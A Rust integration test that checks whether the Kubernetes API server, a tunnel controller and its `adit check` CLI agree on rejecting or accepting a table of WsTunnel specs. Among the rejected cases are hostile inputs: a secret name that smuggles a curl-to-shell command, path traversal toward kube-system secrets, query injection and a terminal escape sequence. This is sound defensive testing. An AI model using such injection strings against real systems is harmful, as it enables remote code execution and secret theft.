//! One table of specs, three judges: the API server, the controller, and `adit check`, which must agree.

use std::process::Command;
use std::time::Duration;

use kube::api::{Patch, PatchParams, ValidationDirective};
use serde_json::{Value, json};

use super::controller::Controller;
use crate::support::cluster::Cluster;
use crate::support::ports;
use crate::support::wait::eventually;

/// What becomes of an object.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Verdict {
    /// The API server refuses it, as kubectl asks it to by default: strictly.
    Rejected,
    /// The same, for a form that means nothing else than its absence: `adit check` takes it.
    RejectedThere,
    /// `Accepted=False` with this reason.
    Refused(&'static str),
    /// The same, by a class: `adit check` takes it without `--classes`.
    RefusedThere(&'static str),
    /// `Accepted=True`.
    Accepted,
}

use Verdict::{Accepted, Refused, RefusedThere, Rejected, RejectedThere};

/// A service on the front port: its handler, and what else the spec has.
macro_rules! handler {
    ($handler:literal) => { handler!($handler, "") };
    ($handler:literal, $rest:literal) => {
        concat!(
            "services: [{name: in, addr: ':8080', listener: {type: ws, metadata: {path: /PATH}}, handler: ",
            $handler, "}]\n", $rest
        )
    };
}

/// The same with other keys of the service.
macro_rules! service {
    ($keys:literal) => {
        service!($keys, "")
    };
    ($keys:literal, $rest:literal) => {
        concat!(
            "services: [{name: in, addr: ':8080', listener: {type: ws, metadata: {path: /PATH}}, ",
            "handler: {type: http}, ",
            $keys,
            "}]\n",
            $rest
        )
    };
}

/// An HTTP proxy on the front port behind a listener.
macro_rules! listener {
    ($listener:literal) => {
        concat!(
            "services: [{name: in, addr: ':8080', handler: {type: http}, listener: ",
            $listener,
            "}]"
        )
    };
}

/// A port forward to a node.
macro_rules! forward {
    ($node:literal) => {
        concat!(
            "services: [{name: in, addr: ':FREE', listener: {type: tcp}, handler: {type: tcp}, ",
            "forwarder: {nodes: [",
            $node,
            "]}}]"
        )
    };
}

/// A proxy through a chain of one node.
macro_rules! node {
    ($node:literal) => {
        concat!(
            "services: [{name: in, addr: ':8080', listener: {type: ws, metadata: {path: /PATH}}, ",
            "handler: {type: http, chain: c}}]\nchains: [{name: c, hops: [{nodes: [",
            $node,
            "]}]}]"
        )
    };
}

/// Name, verdict, a word that who refuses says, the spec. `:8080` and `:8443` stand for the front ports,
/// `:FREE` for one that is nobody's, `PATH` for the name.
#[rustfmt::skip]
const CASES: &[(&str, Verdict, &str, &str)] = &[
    // The API server, by schema.
    ("no-services", Rejected, "services", "services: []"),
    ("no-list", Rejected, "services", "suspend: true"),
    ("no-name", Rejected, "name", "services: [{addr: ':8080', handler: {type: http}}]"),
    ("no-addr", Rejected, "addr", "services: [{name: in, handler: {type: http}}]"),
    ("upper-name", Rejected, "name", "services: [{name: In, addr: ':8080', handler: {type: http}}]"),
    ("dotted-name", Rejected, "name", "services: [{name: a.b, addr: ':8080', handler: {type: http}}]"),
    ("long-name", Rejected, "name", "services: [{name: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa, addr: ':8080', handler: {type: http}}]"),
    ("twice", Rejected, "in", "services: [{name: in, addr: ':8080'}, {name: in, addr: ':8081'}]"),
    ("many-hostnames", Rejected, "hostnames", service!("hostnames: [a.a, a.b, a.c, a.d, a.e, a.f, a.g, a.h, a.i, a.j, a.k, a.l, a.m, a.n, a.o, a.p, a.q]")),
    ("retries", Rejected, "retries", handler!("{type: http, retries: 101}")),
    ("less-retries", Rejected, "retries", handler!("{type: http, retries: -1}")),
    ("a-number", Rejected, "type", handler!("{type: 5}")),
    ("a-text", Rejected, "suspend", handler!("{type: http}", "suspend: 'yes'")),
    ("drain-word", Rejected, "drain.timeout", handler!("{type: http}", "drain: {timeout: soon}")),
    ("no-class-name", RejectedThere, "className", handler!("{type: http}", "className: ''")),
    ("network", Rejected, "network", handler!("{type: http}", "bypasses: [{name: b, network: sctp, matchers: [a.b]}]")),
    ("strategy", Rejected, "strategy", handler!("{type: http, chain: c}", "chains: [{name: c, hops: [{nodes: [{addr: 'h:1'}], selector: {strategy: parallel}}]}]")),
    ("nameless-secret", Rejected, "name", handler!("{type: http, auth: {secretRef: {}}}")),
    ("portless-service", Rejected, "port", forward!("{name: a, serviceRef: {name: db}}")),
    ("typo", Rejected, "authr", handler!("{type: http, authr: users}")),
    ("unknown-key", Rejected, "colour", handler!("{type: http, colour: red}")),
    ("secret-query", Rejected, "secretRef.name", handler!("{type: http, auth: {secretRef: {name: '?watch=true&a=1'}}}")),
    ("secret-path", Rejected, "secretRef.name", listener!("{type: wss, tls: {secretRef: {name: ../../kube-system/secrets/x}}}")),
    ("secret-shell", Rejected, "secretRef.name", handler!("{type: http, auther: u}", "authers: [{name: u, secretRef: {name: 'a;curl${IFS}b.example|sh;'}}]")),
    ("secret-escaped", Rejected, "secretRef.name", node!("{addr: 'h:1', connector: {auth: {secretRef: {name: a%2fb}}}}")),
    ("secret-upper", Rejected, "secretRef.name", node!("{addr: 'h:1', dialer: {type: wss, tls: {secretRef: {name: Gw}}}}")),
    ("ca-path", Rejected, "caRef.name", node!("{addr: 'h:1', dialer: {type: wss, tls: {caRef: {name: a/b}}}}")),
    ("client-ca-name", Rejected, "clientCARef.name", listener!("{type: wss, tls: {secretRef: {name: s}, clientCARef: {name: a..b}}}")),
    ("client-ca-key", Rejected, "clientCARef.key", listener!("{type: wss, tls: {secretRef: {name: s}, clientCARef: {name: a, key: ../x}}}")),
    ("service-dots", Rejected, "serviceRef.name", forward!("{name: a, serviceRef: {name: db.other, port: 1}}")),
    ("service-query", Rejected, "serviceRef.name", node!("{serviceRef: {name: '?watch=true', port: 1}}")),
    ("service-port", Rejected, "serviceRef.port", forward!("{name: a, serviceRef: {name: db, port: a/b}}")),
    ("chain-name", Rejected, "chains[0].name", handler!("{type: http}", "chains: [{name: größe, hops: [{nodes: [{addr: 'h:1'}]}]}]")),
    ("node-name", Rejected, "nodes[0].name", node!("{name: \"a\\e[2J\", addr: 'h:1'}")),
    ("user-name", Rejected, "username", handler!("{type: http, auth: {username: größe, password: p}}")),
    // The API server, by its rules.
    ("addr-host", Rejected, "addr", "services: [{name: in, addr: '127.0.0.1:8080', handler: {type: http}}]"),
    ("addr-zero", Rejected, "addr", "services: [{name: in, addr: ':0', handler: {type: http}}]"),
    ("addr-large", Rejected, "addr", "services: [{name: in, addr: ':70000', handler: {type: http}}]"),
    ("addr-word", Rejected, "addr", "services: [{name: in, addr: http, handler: {type: http}}]"),
    ("no-chain", Rejected, "chain", handler!("{type: http, chain: nowhere}")),
    ("no-auther", Rejected, "auther", handler!("{type: http, auther: nobody}")),
    ("no-authers", Rejected, "auther", handler!("{type: http, authers: [nobody]}")),
    ("no-admission", Rejected, "admission", service!("admission: none")),
    ("no-admissions", Rejected, "admission", service!("admissions: [none]")),
    ("no-bypass", Rejected, "bypass", service!("bypass: none")),
    ("no-resolver", Rejected, "resolver", service!("resolver: none")),
    ("no-hosts", Rejected, "hosts", service!("hosts: none")),
    ("no-limiter", Rejected, "limiter", service!("limiter: none")),
    ("no-climiter", Rejected, "climiter", service!("climiter: none")),
    ("no-rlimiter", Rejected, "rlimiter", service!("rlimiter: none")),
    ("no-hop", Rejected, "hop", "services: [{name: in, addr: ':FREE', handler: {type: tcp}, forwarder: {hop: none}}]"),
    ("empty-hop", Rejected, "hop", handler!("{type: http, chain: c}", "chains: [{name: c, hops: [{name: none}]}]")),
    ("tcp-alone", Rejected, "forwarder", "services: [{name: in, addr: ':FREE', handler: {type: tcp}}]"),
    ("udp-alone", Rejected, "forwarder", "services: [{name: in, addr: ':FREE', handler: {type: udp}, listener: {type: udp}}]"),
    ("forward-alone", Rejected, "forwarder", handler!("{type: forward}")),
    ("tcp-hostnames", Rejected, "hostnames", "services: [{name: in, addr: ':FREE', hostnames: [a.b], listener: {type: tcp}, handler: {type: http}}]"),
    ("plain-tls", Rejected, "tls", listener!("{type: ws, tls: {secretRef: {name: s}}}")),
    ("ca-alone", Rejected, "certificate", listener!("{type: wss, tls: {clientCARef: {name: ca}}}")),
    ("files", Rejected, "file", listener!("{type: wss, tls: {certFile: /a, keyFile: /b}}")),
    ("ca-file", Rejected, "file", node!("{addr: 'h:1', dialer: {type: wss, tls: {caFile: /a}}}")),
    ("plain-dialer", Rejected, "tls", node!("{addr: 'h:1', dialer: {type: ws, tls: {secure: true}}}")),
    ("two-targets", Rejected, "addr", forward!("{name: a, addr: 'h:1', serviceRef: {name: db, port: 1}}")),
    // The controller.
    ("listener-type", Refused("Invalid"), "wsss", listener!("{type: wsss}")),
    ("handler-type", Refused("Invalid"), "htp", handler!("{type: htp}")),
    ("rtcp", Refused("Unsupported"), "rtcp", listener!("{type: rtcp}")),
    ("kcp", Refused("Unsupported"), "kcp", listener!("{type: kcp}")),
    ("mux-version", Refused("Invalid"), "smux", listener!("{type: mws, metadata: {path: /PATH, mux.version: 3}}")),
    ("duration", Refused("Invalid"), "readHeaderTimeout", listener!("{type: ws, metadata: {path: /PATH, readHeaderTimeout: soon}}")),
    ("path-slash", Refused("PathNotAllowed"), "path", listener!("{type: ws, metadata: {path: x}}")),
    ("path-braces", Refused("PathNotAllowed"), "path", listener!("{type: ws, metadata: {path: '/a{b}'}}")),
    ("path-space", Refused("PathNotAllowed"), "path", listener!("{type: ws, metadata: {path: '/a b'}}")),
    ("path-query", Refused("PathNotAllowed"), "path", listener!("{type: ws, metadata: {path: '/a?b'}}")),
    ("compression", Refused("Unsupported"), "enableCompression", listener!("{type: ws, metadata: {path: /PATH, enableCompression: true}}")),
    ("bind", Refused("Unsupported"), "bind", handler!("{type: socks5, metadata: {bind: true}}")),
    ("probe-resist", Refused("Unsupported"), "probeResist", handler!("{type: http, metadata: {probeResist: 'code:404'}}")),
    ("loopback", Refused("LoopbackTarget"), "loopback", forward!("{name: a, addr: '127.0.0.1:22'}")),
    ("loopback-6", Refused("LoopbackTarget"), "loopback", forward!("{name: a, addr: '[::1]:22'}")),
    ("localhost", Refused("LoopbackTarget"), "loopback", forward!("{name: a, addr: 'localhost:22'}")),
    ("port-alone", Refused("LoopbackTarget"), "loopback", forward!("{name: a, addr: ':22'}")),
    ("front-target", Refused("LoopbackTarget"), "loopback", forward!("{name: a, addr: '127.0.0.1:8080'}")),
    ("hostname", Refused("Invalid"), "hostnames", service!("hostnames: ['a b']")),
    ("inner-wildcard", Refused("Invalid"), "hostnames", service!("hostnames: ['a.*.b']")),
    ("named-client", Refused("Invalid"), "matchers", service!("admission: a", "admissions: [{name: a, matchers: [example.com]}]")),
    ("no-unit", Refused("Invalid"), "limits", service!("limiter: l", "limiters: [{name: l, limits: ['$ 10']}]")),
    ("mapping", Refused("Invalid"), "ip", service!("hosts: h", "hosts: [{name: h, mappings: [{ip: x, hostname: a.b}]}]")),
    ("nameserver", Refused("LoopbackTarget"), "loopback", service!("resolver: r", "resolvers: [{name: r, nameservers: [{addr: '127.0.0.1:53'}]}]")),
    ("dns-over-tls", Refused("Unsupported"), "tls", service!("resolver: r", "resolvers: [{name: r, nameservers: [{addr: 'tls://1.1.1.1'}]}]")),
    ("no-password", Refused("Invalid"), "password", handler!("{type: http, auth: {username: u, password: ''}}")),
    ("no-users", Refused("Invalid"), "authers", handler!("{type: http, auther: a}", "authers: [{name: a}]")),
    ("no-hops", Refused("Invalid"), "hops", handler!("{type: http, chain: c}", "chains: [{name: c}]")),
    ("connector", Refused("Invalid"), "htp", node!("{addr: 'h:1', connector: {type: htp}}")),
    ("dialer", Refused("Invalid"), "wsss", node!("{addr: 'h:1', dialer: {type: wsss}}")),
    ("node-addr", Refused("Invalid"), "addr", node!("{addr: 'h:x'}")),
    ("forwarder", Refused("Invalid"), "forwarder", service!("forwarder: {nodes: [{name: a, addr: 'h:1'}]}")),
    ("tls-version", Refused("Invalid"), "minVersion", "services: [{name: in, addr: ':8443', handler: {type: http}, listener: {type: wss, tls: {options: {minVersion: SSL3}}}}]"),
    ("fail-timeout", Refused("Invalid"), "failTimeout", handler!("{type: http, chain: c}", "chains: [{name: c, hops: [{nodes: [{addr: 'h:1'}], selector: {failTimeout: soon}}]}]")),
    // By the front ports, and by the ports of the class.
    ("plain-on-tls", Refused("PortConflict"), "TLS", "services: [{name: in, addr: ':8443', handler: {type: http}, listener: {type: ws}}]"),
    ("tls-on-plain", Refused("PortConflict"), "plain ws", "services: [{name: in, addr: ':8080', handler: {type: http}, listener: {type: wss}}]"),
    ("tcp-on-front", Refused("PortConflict"), "ws", "services: [{name: in, addr: ':8080', handler: {type: http}, listener: {type: tcp}}]"),
    ("low-port", RefusedThere("PortNotAllowed"), "1024", "services: [{name: in, addr: ':80', handler: {type: http}, listener: {type: tcp}}]"),
    ("high-port", RefusedThere("PortNotAllowed"), "19999", "services: [{name: in, addr: ':30000', handler: {type: http}, listener: {type: tcp}}]"),
    // Good ones.
    ("proxy", Accepted, "", handler!("{type: http}")),
    ("auto", Accepted, "", handler!("{}")),
    ("relay-mws", Accepted, "", "services: [{name: in, addr: ':8080', handler: {type: relay}, listener: {type: mws, metadata: {path: /PATH, mux.version: 2}}}]"),
    ("self-signed", Accepted, "", "services: [{name: in, addr: ':8443', handler: {type: http}, listener: {type: wss, metadata: {path: /PATH}}}]"),
    ("suspended", Accepted, "", handler!("{type: http}", "suspend: true")),
    ("own-class", Accepted, "", handler!("{type: http}", "className: adit\ndrain: {timeout: 1m30s}")),
    ("hostnames", Accepted, "", service!("hostnames: [a.example, '*.b.example']")),
    ("unknown-metadata", Accepted, "", listener!("{type: ws, metadata: {path: /PATH, colour: red}}")),
    ("forward-tcp", Accepted, "", forward!("{name: a, addr: 'db.example:5432'}")),
    ("own-port", Accepted, "", "services: [{name: in, addr: ':8080', handler: {type: forward}, listener: {type: ws, metadata: {path: /PATH}}, forwarder: {nodes: [{name: a, addr: ':FREE'}]}}, {name: own, addr: ':FREE', handler: {type: http}, listener: {type: tcp}}]"),
    ("dotted-secret", Accepted, "", handler!("{type: http, auther: u}", "authers: [{name: u, secretRef: {name: a.b-1.c}}]")),
    ("spaced-names", Accepted, "", handler!("{type: http, chain: my chain}", "chains: [{name: my chain, hops: [{nodes: [{name: 'a (b)', addr: 'h.example:1'}]}]}]")),
    ("named-port", Accepted, "", forward!("{name: a, serviceRef: {name: 1db, port: 5432}}")),
    ("missing-secret", Accepted, "", handler!("{type: http, auth: {secretRef: {name: gone}}}")),
    ("missing-service", Accepted, "", forward!("{name: a, serviceRef: {name: gone, port: sql}}")),
    ("two-hops", Accepted, "", handler!("{type: socks5, chain: c}", "hops: [{name: h, nodes: [{addr: 'a:1'}]}]\nchains: [{name: c, hops: [{name: h}, {nodes: [{addr: 'b:1', connector: {type: relay}, dialer: {type: mwss, tls: {secure: true, serverName: b}}}]}]}]")),
    ("gates", Accepted, "", service!("admission: a, bypass: b, limiter: l, climiter: c, rlimiter: r", "admissions: [{name: a, matchers: [10.0.0.0/8]}]\nbypasses: [{name: b, matchers: ['*.corp']}]\nlimiters: [{name: l, limits: ['$ 1MB 1MB']}]\nclimiters: [{name: c, limits: ['$ 10']}]\nrlimiters: [{name: r, limits: ['$ 10']}]")),
    ("users", Accepted, "", handler!("{type: http, authers: [a]}", "authers: [{name: a, auths: [{username: u, password: p}]}]")),
];

/// What `adit check` says of a spec: whether it takes it, and its words.
fn check(name: &str, spec: &str) -> (bool, String) {
    let spec = spec.replace("PATH", name).replace(":FREE", ":15000").replace('\n', "\n  ");
    let manifest = format!(
        "apiVersion: adit.dev/v1alpha1\nkind: WsTunnel\nmetadata: {{name: {name}}}\nspec:\n  {spec}\n"
    );
    let file = tempfile::NamedTempFile::with_suffix(".yaml").unwrap();
    std::fs::write(file.path(), manifest).unwrap();
    let output =
        Command::new(env!("CARGO_BIN_EXE_adit")).arg("check").arg(file.path()).output().unwrap();
    let code = output.status.code();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(code == Some(0) || code == Some(64), "{name}: {code:?} {said}");
    (code == Some(0), said)
}

#[test]
fn the_api_server_the_controller_and_check_agree_on_every_case() {
    let cluster = Cluster::shared();
    let ns = &cluster.namespace("verdicts");
    let controller = Controller::start(cluster, &[ns]);
    let (front, tls) = (format!(":{}", controller.front), format!(":{}", controller.front_tls));
    let api = cluster.tunnels(ns);
    let strict = PatchParams {
        field_validation: Some(ValidationDirective::Strict),
        ..PatchParams::apply("t")
    };
    let mut wrong = Vec::new();
    let mut stored = Vec::new();
    for (name, verdict, word, spec) in CASES {
        let (taken, said) = check(name, spec);
        if taken != matches!(verdict, Accepted | RefusedThere(_) | RejectedThere) {
            wrong.push(format!("{name}: check says\n{said}"));
        } else if !taken && !said.contains(word) {
            wrong.push(format!("{name}: check does not say {word:?}:\n{said}"));
        }
        let free = format!(":{}", ports::free());
        let spec = spec.replace("PATH", name).replace(":FREE", &free);
        let spec = spec.replace(":8080", &front).replace(":8443", &tls);
        let spec: Value = serde_yaml::from_str(&spec).unwrap_or_else(|e| panic!("{name}: {e}"));
        let body = json!({"apiVersion": "adit.dev/v1alpha1", "kind": "WsTunnel",
            "metadata": {"name": name}, "spec": spec});
        let body = Patch::Apply(&body);
        let dry = PatchParams { dry_run: true, ..strict.clone() };
        match (cluster.block_on(api.patch(name, &dry, &body)), verdict) {
            (Err(kube::Error::Api(status)), Rejected | RejectedThere)
                if status.message.contains(word) => {}
            (Err(error), _) => wrong.push(format!("{name}: the API server says\n{error}")),
            (Ok(_), Rejected | RejectedThere) => {
                wrong.push(format!("{name}: the API server takes it"))
            }
            (Ok(_), _) => {
                cluster.block_on(api.patch(name, &strict, &body)).unwrap();
                stored.push((*name, *verdict, *word));
            }
        }
    }
    for (name, verdict, word) in stored {
        let mut said = String::new();
        eventually(&format!("{name} is judged"), Duration::from_secs(15), || {
            said = cluster.condition(ns, name, "Accepted");
            !said.is_empty() && said != "Unknown/Pending"
        });
        let wanted = match verdict {
            Refused(reason) | RefusedThere(reason) => format!("False/{reason}"),
            _ => "True/Accepted".into(),
        };
        let message = cluster.message(ns, name, "Accepted");
        if said != wanted || !message.contains(word) {
            wrong.push(format!("{name}: not {wanted}, but the controller says {said}\n{message}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {} cases:\n{}", wrong.len(), CASES.len(), wrong.join("\n"));
}
